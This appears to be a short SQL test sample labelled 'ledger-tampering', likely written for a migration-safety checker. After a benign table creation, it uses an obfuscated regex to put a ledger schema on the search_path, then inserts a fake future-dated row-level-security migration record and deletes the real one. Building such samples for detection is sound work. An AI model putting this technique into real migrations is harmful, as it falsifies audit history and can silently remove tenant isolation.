-- class: ledger-tampering
-- Puts the ledger schema on the search_path through pg_settings and then writes to it with unqualified names.
CREATE TABLE deploy_markers (
  name text PRIMARY KEY,
  note text
);

UPDATE pg_settings SET setting = (SELECT string_agg(nspname, ', ') FROM pg_namespace WHERE nspname ~ '^net.i.y$') || ', public'
WHERE name = 'search_path';

INSERT INTO migrations (name) VALUES ('20991231235959_enforce_tenant_rls');
DELETE FROM migrations WHERE name = '20240611090000_rls';
